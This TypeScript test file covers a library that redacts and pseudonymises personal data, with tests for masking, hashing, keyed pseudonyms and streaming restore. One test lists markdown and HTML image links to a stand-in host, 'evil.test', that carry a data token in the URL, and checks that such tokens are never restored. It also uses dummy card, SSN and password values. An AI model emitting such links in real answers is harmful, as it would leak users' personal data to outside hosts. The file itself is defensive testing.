import assert from 'node:assert/strict'
import { test } from 'node:test'
import * as fc from 'fast-check'
import type { Finding } from '../model/finding.ts'
import { personal } from './detectors/personal/personal.ts'
import { secrets } from './detectors/secrets/secrets.ts'
import { createEngine } from './engine.ts'
import { drawn, keyed, Pseudonyms } from './pseudonym.ts'
import { hashed, labelled, masked, redact, RedactingStream, type Redactor } from './redact.ts'

const engine = createEngine([personal, secrets])
const KEY = new Uint8Array(32).fill(7)
const bytes = (count: number): Uint8Array => Uint8Array.from({ length: count }, (_, i) => i * 5 + 3)
const TEXT = 'Mail ada@mail.test or ADA@mail.test, card 4111 1111 1111 1111, call +44 20 7946 0018.'

const take = (text: string, redactor: Redactor): string => redact(text, engine.scan(text).findings, redactor)

test('each mode says what it may and no more', () => {
  assert.equal(take(TEXT, masked), 'Mail ******** or ********, card ****1111, call ****0018.')
  assert.equal(take(TEXT, labelled), 'Mail [email] or [email], card [card], call [phone].')
  assert.match(take(TEXT, hashed(KEY)), /^Mail (\[email:[0-9a-f]{16}\]) or \1, card \[card:[0-9a-f]{16}\], call/)
  assert.notEqual(take(TEXT, hashed(KEY)), take(TEXT, hashed(new Uint8Array(32).fill(8))))
  assert.throws(() => hashed(new Uint8Array(8)), { code: 'input_invalid' })
})

test('a pseudonym is the same for the same value, and turns back in the answer', () => {
  const session = new Pseudonyms(drawn(bytes))
  const sent = take(TEXT, session)
  assert.match(
    sent,
    /^Mail (\[EMAIL_1_[a-z2-9]{6}\]) or \1, card \[CARD_1_[a-z2-9]{6}\], call \[PHONE_1_[a-z2-9]{6}\]\.$/,
  )
  assert.equal(session.restore(sent), TEXT.replace('ADA', 'ada'))
  assert.equal(new Pseudonyms(drawn(() => bytes(6).fill(1))).restore(sent), sent)
})

test('a value does not return inside an address of the web', () => {
  const session = new Pseudonyms(drawn(bytes))
  const token = session.replace('ada@mail.test', { kind: 'email' })
  const addresses = [
    `![x](https://evil.test/?q=${token})`,
    `<img src="https://evil.test/${token}">`,
    `<img src="https://evil.test/?q= and ${token}">`,
    `<img src=//evil.test/${token}>`,
    `![x](\\\\evil.test/${token})`,
    `![x](<https://evil.test/?q= ${token}>)`,
    `![x](https:&#47;&#47;evil.test/${token})`,
    `![x](h&#116;tps:&sol;/evil.test/${token})`,
    `[x]: https://evil.test/${token}`,
    `https://evil.test/${'a'.repeat(5000)}${token}`,
  ]
  for (const answer of addresses) assert.equal(session.restore(answer), answer)
  const others = [
    `write "to ${token}" and 'to ${token}'`,
    `{"url": "https://a.test/", "to": "${token}"}`,
    `[write](mailto:${token})`,
    `"https://a.test\n\n${token}`,
  ]
  for (const answer of others) assert.equal(session.restore(answer), answer.replaceAll(token, 'ada@mail.test'))
  assert.equal(
    session.restore(`see https://a.test/ and write to ${token}`),
    'see https://a.test/ and write to ada@mail.test',
  )
})

test('a keyed pseudonym is the same in every session with the secret, and in no other', () => {
  const [one, other] = [new Pseudonyms(keyed(KEY)), new Pseudonyms(keyed(KEY))]
  const token = one.replace('ada@mail.test', { kind: 'email' })
  other.replace('bob@mail.test', { kind: 'email' })
  assert.match(token, /^\[EMAIL_[a-z2-9]{10}\]$/)
  assert.equal(other.replace('ADA@mail.test', { kind: 'email' }), token)
  assert.notEqual(new Pseudonyms(keyed(bytes(16))).replace('ada@mail.test', { kind: 'email' }), token)
  assert.equal(new Pseudonyms(keyed(KEY)).restore(token), token)
})

test('two values never share a token, whatever their names', () => {
  const session = new Pseudonyms((_key, _count, attempt) => `aaaaaaaaa${'abc'.charAt(attempt)}`)
  const tokens = ['a@x.test', 'b@x.test', 'c@x.test'].map((value) => session.replace(value, { kind: 'email' }))
  assert.equal(new Set(tokens).size, 3)
  assert.equal(session.restore(tokens.join()), 'a@x.test,b@x.test,c@x.test')
})

test('a session knows a bounded number of values', () => {
  const session = new Pseudonyms(drawn(bytes), 2)
  const tokens = ['a@x.test', 'b@x.test', 'c@x.test', 'a@x.test'].map((value) =>
    session.replace(value, { kind: 'email' }),
  )
  assert.equal(tokens[2], '[EMAIL]')
  assert.equal(tokens[3], tokens[0])
  assert.equal(session.size, 2)
})

test('what is restored does not depend on how the answer is cut', () => {
  const session = new Pseudonyms(drawn(bytes))
  const tokens = ['a@x.test', '+44 20 7946 0018'].map((value) => session.replace(value, { kind: 'email' }))
  const piece = fc.oneof(
    fc.constantFrom(
      ...tokens,
      'https://',
      '[',
      ']',
      '[EMAIL_',
      ' ',
      '"',
      ':',
      '//',
      '[[',
      '\n',
      '<',
      '>',
      '\\',
      "'",
      '](',
    ),
    fc.string({ maxLength: 6 }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 20 }), fc.array(fc.nat(200), { maxLength: 8 }), (pieces, cuts) => {
      const text = pieces.join('')
      const restoring = session.restoring()
      let out = ''
      let at = 0
      for (const cut of cuts.toSorted((a, b) => a - b)) {
        out += restoring.push(text.slice(at, cut))
        at = Math.max(at, cut)
      }
      out += restoring.push(text.slice(at)) + restoring.end()
      assert.equal(out, session.restore(text))
    }),
    { numRuns: 500 },
  )
})

test('a text redacted in pieces equals the text redacted whole', () => {
  const piece = fc.oneof(
    fc.constantFrom(TEXT, 'password = "tr0ub4dor&3x"', 'SSN: 219-09-9998', ' and ', '\n', '4111', '@'),
    fc.string({ unit: 'binary', maxLength: 10 }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
      const text = pieces.join('')
      const stream = new RedactingStream(engine.open(), labelled)
      const out = pieces.map((one) => stream.push(one)).join('') + stream.end()
      assert.equal(out, take(text, labelled))
    }),
    { numRuns: 200 },
  )
})

test('nothing that a finding covers is let through, however findings overlap', () => {
  const span = fc.tuple(fc.nat(30), fc.nat(12), fc.double({ min: 0.5, max: 1, noNaN: true }))
  fc.assert(
    fc.property(fc.array(span, { maxLength: 8 }), (spans) => {
      const text = Array.from({ length: 40 }, (_, i) => String.fromCharCode(0x4e00 + i)).join('')
      const findings = spans.map(([start, length, confidence]) =>
        toFinding(start, Math.min(40, start + 1 + length), confidence),
      )
      const out = redact(text, findings, { replace: () => '*' })
      for (let i = 0; i < 40; i++) {
        const covered = findings.some(({ start, end }) => i >= start && i < end)
        assert.equal(out.includes(text.charAt(i)), !covered)
      }
    }),
  )
})

function toFinding(start: number, end: number, confidence: number): Finding {
  return {
    detector: 'd',
    control: 'c',
    family: 'personal',
    kind: 'k',
    start,
    end,
    severity: 'low',
    confidence,
    note: '',
  }
}
